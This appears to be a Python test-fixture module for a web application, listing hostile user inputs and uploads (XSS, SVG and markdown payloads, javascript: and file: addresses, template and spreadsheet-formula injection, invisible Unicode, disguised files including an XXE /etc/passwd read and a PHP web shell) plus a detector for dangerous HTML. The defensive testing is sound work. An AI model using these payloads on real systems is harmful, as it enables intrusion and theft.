"""Words and files that try to be more than words and files, and a judge of what became of them.

WORDS: name → what somebody types into a field. FILES: name → (file name, bytes, kind they claim to be) of what
somebody uploads. `judge(html)` lists what in a page would run, lead or hide; `seen(html)` is what a reader sees.
"""

import io
import re
import zipfile
from html.parser import HTMLParser

from lib.plain_words import plain
from tests.selection.applying import a_pdf, a_photo

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script in mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script from elsewhere": "<script src=//jahat.example/x.js></script>",
    "script that never ends": "<script>alert(1)//",
    "out of an attribute": '"><script>alert(1)</script>',
    "out of a quoted attribute": "'><img src=x onerror=alert(1)>",
    "a new attribute": '" autofocus onfocus=alert(1) x="',
    "out of a text area": "</textarea><script>alert(1)</script>",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of noscript": "</noscript><img src=x onerror=alert(1)>",
    "picture": "<img src=x onerror=alert(1)>",
    "picture without spaces": '<img/src="x"/onerror=alert(1)>',
    "picture with a line in it": "<img src=x onerror\n=alert(1)>",
    "picture that loads": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=alert(1)>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame with a page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object>",
    "embed": "<embed src='javascript:alert(1)'>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "body": "<body onload=alert(1)>",
    "input": "<input autofocus onfocus=alert(1)>",
    "form": "<form action='javascript:alert(1)'><button>Masuk</button></form>",
    "button": "<button formaction='javascript:alert(1)'>x</button>",
    "base": "<base href='https://jahat.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://jahat.example/'>",
    "style": "<style>@import 'https://jahat.example/x.css';</style>",
    "style attribute": "<div style='position:fixed;inset:0;background:url(https://jahat.example/)'>x</div>",
    "link element": "<link rel=stylesheet href='https://jahat.example/x.css'>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "template element": "<template><img src=x onerror=alert(1)></template>",
    "dangling": "<img src='https://jahat.example/?",
}
SVG = {
    "svg": "<svg onload=alert(1)>",
    "svg without an end": "<svg/onload=alert(1)//",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that moves": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg that sets a link": "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text y=9>x</text></a></svg>",
    "svg with a page": "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "svg that uses another": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg in math": "<math><annotation-xml encoding='text/html'><svg onload=alert(1)></annotation-xml></math>",
}
LINKS = {
    "link": "<a href='javascript:alert(1)'>x</a>",
    "link in mixed case": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "link with an entity": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "link with a leading sign": "<a href='\x01javascript:alert(1)'>x</a>",
    "link to data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link to data in base64": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "link to vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
}
ADDRESSES = {  # where an address is asked for
    "javascript:": "javascript:alert(1)",
    "javascript in mixed case": "JaVaScRiPt:alert(1)",
    "javascript with a tab": "java\tscript:alert(1)",
    "javascript with a newline": "java\nscript:alert(1)",
    "javascript with a slash": "javascript://contoh.example/%0aalert(1)",
    "javascript after a space": " javascript:alert(1)",
    "javascript after a control sign": "\x01javascript:alert(1)",
    "javascript with an entity": "javascript&colon;alert(1)",
    "data:": "data:text/html,<script>alert(1)</script>",
    "data in mixed case": "DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data as a picture": "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:": "vbscript:msgbox(1)",
    "view-source:": "view-source:javascript:alert(1)",
    "file:": "file:///etc/passwd",
    "blob:": "blob:https://contoh.example/x",
}
MARKDOWN = {
    "markdown link": "[x](javascript:alert(1))",
    "markdown picture": '![x](x"onerror="alert(1))',
    "markdown link with a title": '[x](https://contoh.example "onmouseover=alert(1)")',
    "markdown address": "<javascript:alert(1)>",
    "markdown reference": "[x][1]  [1]: javascript:alert(1)",
    "markdown with markup": "**<img src=x onerror=alert(1)>**",
    "what a filter would make a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "markdown code": "```<script>alert(1)</script>```",
}
TEMPLATES = {
    "django value": "{{ settings.SECRET_KEY }}",
    "django sum": '{{ 1336|add:"1" }}',
    "django tag": "{% debug %}",
    "django include": '{% include "base.html" %}',
    "jinja": "{{ ''.__class__.__mro__ }}",
    "dollar": "${7*191}",
    "erb": "<%= 7*191 %>",
    "hash": "#{7*191}",
    "angular": "{{constructor.constructor('alert(1)')()}}",
    "format": "{0.__class__} {token} {code}",
    "percent": "%(title)s %s %n 100%",
    "typst": '#read("/etc/passwd")',
}
FORMULAS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("https://jahat.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a space": "  =1+1",
    "formula after a newline": "\n=1+1",
    "wide equals": "\uff1d1+1",
    "cell that ends the row": '",=1+1,"',
}
INVISIBLE = {
    "right to left override": "Dinas \u202egnutiG\u202c",
    "isolate": "\u2067Anda lulus\u2069",
    "arabic mark": "Anda\u061c lulus",
    "zero width space": "pega\u200bwai",
    "byte order mark": "\ufeffSoal",
    "soft hyphen": "pe\u00adgawai",
    "escape": "\x1b[31mmerah\x1b[0m",
    "bell and backspace": "so\x07al\x08",
    "line separator": "satu\u2028dua\u2029tiga",
    "tags": "soal\U000e0041\U000e0042",
    "private use": "soal\ue000",
}
WORDS: dict[str, str] = MARKUP | SVG | LINKS | ADDRESSES | MARKDOWN | TEMPLATES | FORMULAS | INVISIBLE

HTML_PAGE = b"<!doctype html><html><script>alert(1)</script></html>"
SVG_FILE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
BOMB_XML = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
GIF = b"GIF89a/*" + b"\0" * 8 + b"*/=1;alert(1)"


def _zip(name: str, content: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, content)
    return target.getvalue()


def _with_comment(photo: bytes, comment: bytes) -> bytes:
    """A JPEG with a comment right behind its first mark."""
    return photo[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2) + comment + photo[2:]


FILES: dict[str, tuple[str, bytes, str]] = {
    "svg as pdf": ("surat.pdf", SVG_FILE, "pdf"),
    "svg as photo": ("foto.jpg", SVG_FILE, "image"),
    "page as pdf": ("surat.pdf", HTML_PAGE, "pdf"),
    "page as photo": ("foto.jpg", HTML_PAGE, "image"),
    "page before a pdf": ("surat.pdf", HTML_PAGE + a_pdf(), "pdf"),
    "page behind a pdf": ("surat.pdf", a_pdf() + HTML_PAGE, "pdf"),
    "page in the head of a pdf": (
        "surat.pdf",
        a_pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
        "pdf",
    ),
    "page in a photo": ("foto.jpg", _with_comment(a_photo(), HTML_PAGE), "image"),
    "page behind a photo": ("foto.jpg", a_photo() + HTML_PAGE, "image"),
    "pdf behind a photo": ("foto.jpg", a_photo() + a_pdf(), "image"),
    "photo as pdf": ("surat.pdf", a_photo(), "pdf"),
    "pdf as photo": ("foto.jpg", a_pdf(), "image"),
    "gif that is a script": ("foto.jpg", GIF, "image"),
    "xml": ("surat.pdf", BOMB_XML, "pdf"),
    "archive": ("surat.pdf", _zip("a.html", HTML_PAGE), "pdf"),
    "archive behind a pdf": ("surat.pdf", a_pdf() + _zip("a.class", b"x"), "pdf"),
    "archive behind a photo": ("foto.jpg", a_photo() + _zip("a.class", b"x"), "image"),
    "word with macros": ("surat.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "pdf"),
    "program": ("surat.pdf", b"MZ" + b"\0" * 64 + b"PE\0\0", "pdf"),
    "shell": ("foto.jpg", b"#!/bin/sh\nid\n", "image"),
    "php": ("foto.jpg", b"<?php system($_GET[1]); ?>", "image"),
}

ALLOWED_SCHEMES = {"http", "https", "mailto", "tel", "sms", "webcal", "whatsapp", "tg"}
ADDRESS_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "values"}
# A picture drawn by the page itself (svg) is honest; what moves in it, or holds a page, is not.
NEVER = {
    "iframe", "object", "embed", "base", "math", "style", "template", "marquee", "video", "audio", "frame", "animate",
    "set", "foreignobject", "annotation-xml",
}  # fmt: skip
HOSTS = re.compile(r"jahat\.example", re.IGNORECASE)
OWN_FILE = re.compile(r"/[^/]")


class _Judge(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.words: list[str] = []
        self._quiet = 0

    def handle_starttag(self, tag, attrs):
        given = {name.lower(): value or "" for name, value in attrs}
        if tag in NEVER:
            self.found.append(f"<{tag}>")
        if tag == "script" and given.get("type") != "application/ld+json" and not OWN_FILE.match(given.get("src", "")):
            self.found.append("<script>")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("<meta http-equiv>")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc", "autofocus") or "<" in name or '"' in name:
                self.found.append(f"<{tag} {name}>")
            if name in ADDRESS_ATTRIBUTES and _leads_astray(value):
                self.found.append(f"<{tag} {name}={value[:40]}>")
        if tag in ("script", "style"):
            self._quiet += 1
        self.words.append(" " if tag in ("p", "br", "li", "dd", "dt", "h1", "h2", "h3", "td", "th", "title") else "")

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self._quiet:
            self._quiet -= 1

    def handle_data(self, data):
        if not self._quiet:
            self.words.append(data)


def _leads_astray(address: str) -> bool:
    """Whether a browser, which drops control signs and white space, would run or open something by this address."""
    bare = re.sub(r"[\x00-\x20]", "", address).lower()
    scheme = re.match(r"([a-z][a-z0-9+.\-]*):", bare)
    return bool(scheme and scheme[1] not in ALLOWED_SCHEMES) or bool(HOSTS.match(bare.partition("//")[2]))


def judge(html: str) -> list[str]:
    """What in this page would run, lead astray or hide what it says; [] for a page that is only words."""
    reader = _Judge()
    reader.feed(html)
    reader.close()
    hidden = [f"U+{ord(one):04X}" for one in set(html) if one not in "\n\r\t" and plain(one) != one]
    return reader.found + hidden


def seen(html: str) -> str:
    """The words that a reader sees, each run of white space as one space."""
    reader = _Judge()
    reader.feed(html)
    reader.close()
    return " ".join("".join(reader.words).split())


def as_seen(payload: str) -> str:
    """How an honest page shows this payload: its signs one by one, without those that nobody sees."""
    return " ".join(plain(payload).split())
